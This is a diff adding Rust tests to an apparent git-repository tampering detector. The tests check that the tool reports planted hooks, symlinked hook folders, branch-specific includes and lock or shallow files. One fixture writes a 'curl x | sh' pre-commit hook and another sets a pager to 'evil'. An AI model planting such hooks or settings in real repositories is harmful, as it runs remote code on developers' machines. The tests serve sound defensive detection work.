@@ -76,6 +76,75 @@ fn hooks_elsewhere_are_told() {
     );
 }
 
+/// G46: the scripts that husky runs lie beside the folder that the settings name.
+#[test]
+fn hooks_beside_the_folder_are_told() {
+    let lab = Lab::new();
+    lab.git(&lab.root(), &["config", "core.hooksPath", ".husky/_"]);
+    put_script(&lab.file(".husky/_/h"), "true");
+    put_script(&lab.file(".husky/pre-commit"), "true");
+    let before = print(&lab, None);
+    put_script(&lab.file(".husky/pre-commit"), "curl x | sh");
+    let found = compare(&before, &print(&lab, Some(&before)), &[]);
+    let words: Vec<String> = found.iter().map(ToString::to_string).collect();
+    assert_eq!(words.len(), 1, "{words:?}");
+    assert!(words[0].contains(".husky/pre-commit"), "{words:?}");
+}
+
+/// G46: a folder of hooks that became a link is told, also if the same lies there; so are settings for another
+/// branch, a history that was cut off, a lock, and what only this run may make.
+#[test]
+fn what_is_easily_overlooked_is_told() {
+    let check = |change: &dyn Fn(&Lab), expected: &[&str]| {
+        let told = differs(change);
+        let is_so = told.len() == expected.len()
+            && told.iter().zip(expected).all(|(one, words)| one.contains(words));
+        assert!(is_so, "{told:?} {expected:?}");
+    };
+    check(
+        &|lab| {
+            fs::rename(lab.file(".git/hooks"), lab.path("elsewhere")).unwrap();
+            std::os::unix::fs::symlink(lab.path("elsewhere"), lab.file(".git/hooks")).unwrap();
+        },
+        &["the hook hooks went from nothing to a link to "],
+    );
+    let head = |lab: &Lab| lab.git(&lab.root(), &["rev-parse", "HEAD"]);
+    check(
+        &|lab| fs::write(lab.file(".git/shallow"), head(lab)).unwrap(),
+        &["shallow, which git obeys, went from nothing to "],
+    );
+    check(
+        &|lab| fs::write(lab.file(".git/index.lock"), "").unwrap(),
+        &["git's lock index.lock is there"],
+    );
+    check(
+        &|lab| {
+            lab.git(&lab.root(), &["update-ref", "refs/countersign/runs/x/attempt-7", "HEAD"]);
+            lab.git(&lab.root(), &["update-ref", "refs/countersign/runs/x/interrupted-1", "HEAD"]);
+            lab.git(&lab.root(), &["branch", "countersign/x"]);
+            lab.git(&lab.root(), &["branch", "countersign/y"]);
+        },
+        &["refs/countersign/runs/x/attempt-7", "refs/heads/countersign/x"],
+    );
+    // What says nothing may come and go.
+    check(&|lab| fs::remove_file(lab.file(".git/info/exclude")).unwrap(), &[]);
+    check(&|lab| fs::write(lab.file(".git/info/attributes"), "# none\n").unwrap(), &[]);
+}
+
+/// G46: settings that hold on another branch are looked at where they lie.
+#[test]
+fn settings_of_another_branch_are_told() {
+    let lab = Lab::new();
+    lab.git(&lab.root(), &["config", "includeIf.onbranch:release/*.path", "release.inc"]);
+    fs::write(lab.file(".git/release.inc"), "[user]\n\tname = x\n").unwrap();
+    let before = print(&lab, None);
+    fs::write(lab.file(".git/release.inc"), "[core]\n\tpager = evil\n").unwrap();
+    let found = compare(&before, &print(&lab, Some(&before)), &[]);
+    let words: Vec<String> = found.iter().map(ToString::to_string).collect();
+    assert_eq!(words.len(), 1, "{words:?}");
+    assert!(words[0].contains("release.inc, which git obeys,"), "{words:?}");
+}
+
 /// G46: nothing of the user's runs, not even what was planted a moment ago.
 #[test]
 fn nothing_runs() {
